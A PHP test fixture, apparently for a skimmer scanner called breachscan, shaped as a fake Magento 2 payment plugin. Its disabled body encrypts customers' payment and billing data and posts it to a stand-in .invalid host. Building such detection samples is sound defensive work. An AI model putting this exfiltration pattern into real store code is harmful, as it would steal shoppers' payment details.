<?php
/**
 * synthetic test sample for breachscan: fake Magento 2 module shape - a plugin before
 * PaymentInformationManagement::savePaymentInformationAndPlaceOrder encrypts the payment
 * method's additional data with a hard-coded key and posts it to a hard-coded host.
 * Disabled by the early return; .invalid host.
 */
namespace Synthetic\Analytics\Plugin;

class PaymentInformationPlugin
{
    public function beforeSavePaymentInformationAndPlaceOrder($subject, $cartId, $paymentMethod, $billingAddress = null)
    {
        return null;
        $data = $paymentMethod->getAdditionalData();
        $data['billing'] = $billingAddress ? $billingAddress->getData() : array();
        $blob = openssl_encrypt(json_encode($data), 'aes-128-cbc', 'hardcodedkey0001', 0, '0000000000000000');
        $ch = curl_init('https://m2-cdn.invalid/px');
        curl_setopt($ch, CURLOPT_POSTFIELDS, 'd=' . urlencode($blob));
        curl_exec($ch);
        return null;
    }
}
